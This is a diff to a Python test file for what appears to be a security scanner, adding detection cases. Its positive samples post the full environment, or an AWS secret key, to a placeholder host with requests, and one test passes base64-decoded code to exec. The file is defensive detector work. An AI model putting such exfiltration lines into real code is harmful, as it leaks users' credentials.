@@ -175,6 +175,21 @@ CASES = {
         "import getpass, requests\nrequests.post('https://x.org', data=getpass.getuser())\n",
         "import os, httpx\nurl = os.environ.get('REPORT_URL')\nhttpx.post(url, json={'n': 1})\n",
     ),
+    "the environment returned by a helper and posted is critical; a helper's record is not": Case(
+        "exfiltration", "critical",
+        "import os, requests\ndef collect():\n    return dict(os.environ)\n"
+        "requests.post('https://x.org', json=collect())\n",
+        "import requests\ndef collect():\n    return {'id': 1}\n"
+        "requests.post('https://x.org', json=collect())\n",
+    ),
+    "a secret kept on self and sent by another method is critical; a count is not": Case(
+        "exfiltration", "critical",
+        "import os, requests\nclass A:\n    def setup(self):\n"
+        "        self.key = os.environ['AWS_SECRET_ACCESS_KEY']\n"
+        "    def run(self):\n        requests.post('https://x.org', data=self.key)\n",
+        "import requests\nclass A:\n    def setup(self):\n        self.n = 3\n"
+        "    def run(self):\n        requests.post('https://x.org', data=self.n)\n",
+    ),
     "a token in auth headers is medium, not exfiltration-high": Case(
         "exfiltration", "critical",
         "import os, requests\nrequests.post('https://x.org', data=os.environ['API_TOKEN'])\n",
@@ -342,6 +357,18 @@ def test_rule_spares_its_look_alike(case: Case) -> None:
     """Each rule leaves its benign look-alike below the case's floor."""
     got = worst(case.negative, case.rule)
     assert got is None or RANK[got] < RANK[case.floor], found(case.negative)
+
+
+def test_multi_line_sink_is_reported_where_the_data_is() -> None:
+    """A decoded blob passed on its own line to exec is reported on that line too."""
+    lines = {
+        line
+        for rule, severity, _, line in found(
+            "import base64\nexec(\n    base64.b64decode('cHJpbnQoMSk=')\n)\n"
+        )
+        if (rule, severity) == ("dynamic-code", "critical")
+    }
+    assert lines == {2, 3}
 
 
 def test_every_rule_has_a_case() -> None:
